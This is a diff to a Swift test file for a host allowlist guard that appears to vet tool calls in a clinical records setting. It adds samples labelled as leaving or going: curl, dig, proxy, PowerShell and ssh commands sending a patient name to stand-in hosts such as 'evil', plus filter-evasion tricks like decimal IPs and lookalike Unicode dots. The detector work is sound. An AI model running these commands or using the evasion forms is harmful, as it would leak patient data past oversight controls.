@@ -33,6 +33,12 @@ struct HostListTests {
     #"{"zip":"02115","relationship":"mother","ip_count":"x"}"#,
     #"{"text":"the (@ward) team"}"#,
     #"{"text":"患者は安定。明日また来院。"}"#,
+    #"{"to":"https://ehr.example/x?a=b&c=d.co"}"#,
+    #"{"note":"患者は安定。明日また来院。"}"#,
+    #"{"note":"graft versus host disease, please ping the ward, dig 0.25 mg, 5 m² at 10:30:15, links to the chart"}"#,
+    #"{"note":"The host of 3 https pages, ±0.5, m² 2.5"}"#,
+    #"{"url":"ehr.example/x y","body":"M"}"#,
+    #"{"links":"x","ping":"M","host":"ehr.example"}"#,
   ]
 
   private static let leaving = [
@@ -130,12 +136,33 @@ struct HostListTests {
     #"not json"#,
     #"{"a":"x","a":"y"}"#,
     #"{"a":"x""#,
+    #"{"url":"3627734555/@","body":"M"}"#,
+    #"{"url":"3627734555/?q=a b","body":"M"}"#,
+    #"{"endpoint":"0xd83ad3db/a//","body":"M"}"#,
+    #"{"host":"evilbox x","body":"M"}"#,
+    #"{"url":"evil\t.example/x","body":"M"}"#,
+    #"{"url":"/\t/evil/x","body":"M"}"#,
+    #"{"server":"root@evilbox","body":"M"}"#,
+    #"{"command":["dig","@evilbox","M"]}"#,
+    #"{"x":"evil。\u00adexample"}"#,
+    #"{"x":"evil。ⓔxample"}"#,
+    #"{"x":"evil。𝐞xample"}"#,
+    #"{"x":"evil。рф"}"#,
+    #"{"x":"⑨3.184.216.34"}"#,
+    #"{"x":"²16.184.216.34"}"#,
+    #"{"to":"https://ehr.example/x\u3000evil.example"}"#,
+    #"{"to":"https://ehr.example/x\u0085evil.example"}"#,
+    #"{"cmd":"f(https://ehr.example/x)g(evil.example)"}"#,
+    #"{"to":"https://ehr.example/x&evil.example"}"#,
+    #"{"command":["host","M","3627734555"]}"#,
   ]
 
   private static let quiet = [
     #"lookup Maria Gonzalez"#,
+    #"{"host":"a.clinic.example","links":"Maria"}"#,
     #"{"note":"Maria"}"#,
     #"ls -la && cat notes.txt | grep Maria"#,
+    #"curl https://ehr.example/x -d Maria"#,
   ]
 
   private static let going = [
@@ -144,6 +171,24 @@ struct HostListTests {
     #"import requests; requests.post("x")"#,
     #"ssh root@evil Maria"#,
     #"https://evil.example/Maria"#,
+    #"curl https://ehr.example/ -d 'M' 3627734555/"#,
+    #"curl -x 3627734555:8080 http://ehr.example/ -d M"#,
+    #"curl --proxy=3627734555 http://ehr.example/ -d M"#,
+    #"curl http://ehr.example/ 36277''34555 -d M"#,
+    #"curl http://ehr.example/ 216.58.56283 -d M"#,
+    #"curl http://ehr.example/ 0xd83ad3db -d M"#,
+    #"dig 'M' @2606:2800:21f:cb07:6820:80da:af6b:8b2c"#,
+    #"lookup M at 2606:2800:21f:cb07:6820:80da:af6b:8b2c"#,
+    #"dig M @3627734555"#,
+    #"host M 3627734555"#,
+    #"sudo host M 3627734555"#,
+    #"CURL 3627734555/?q=M"#,
+    #"Curl.exe evil M"#,
+    #"IWR evil M"#,
+    #"invoke-webrequest -Uri 3627734555 M"#,
+    #"http POST evil M"#,
+    #"ping evil"#,
+    #"openssl s_client -connect evil:1"#,
   ]
 
   @Test(arguments: staying)
@@ -180,10 +225,26 @@ struct HostListTests {
     #expect(!Self.hosts.admits(Array(percents.utf8), isJSON: false))
   }
 
-  @Test func `reads texts of one letter again and again in no more time than others`() {
-    for letter in ["a:", "::", ":a:", "a.", "..", "//a", "@", "%25", "\\", "&#", "1.", "[", "{\"", "curl "] {
-      let text = Array(String(repeating: letter, count: 400_000 / letter.utf8.count).utf8)
-      _ = Self.hosts.admits(text, isJSON: false)
+  @Test func `reads a long text of one mark as it does a short one`() {
+    let marks = [
+      "a:", "::", ":a:", "a.", "..", "//a", "@", "a@", "%25", "&#", "1.", "[", "{\"", "curl ", "a..", "1", "。", "é.",
+      "https://ehr.example/", "ehr.example ",
+    ]
+    for mark in marks {
+      let texts = [60, 400_000].map { Array(String(repeating: mark, count: $0 / mark.utf8.count).utf8) }
+      #expect(Self.hosts.admits(texts[0], isJSON: false) == Self.hosts.admits(texts[1], isJSON: false), "\(mark)")
     }
+  }
+
+  @Test func `reads each string of JSON in all the ways that it is said to have`() {
+    let call = Array(#"{"to":"A","body":"\nB"}"#.utf8)
+    var asked: [[UInt8]] = []
+    let isAdmitted = Self.hosts.admits(json: call) { text in
+      asked.append(text)
+      return text == Array("A".utf8) ? [text, Array("x@evil.example".utf8)] : [text]
+    }
+    #expect(!isAdmitted && asked == ["to", "A", "body", "\nB"].map { Array($0.utf8) })
+    #expect(Self.hosts.admits(json: call) { [$0] })
+    #expect(!Self.hosts.admits(json: Array("{".utf8)) { [$0] })
   }
 }
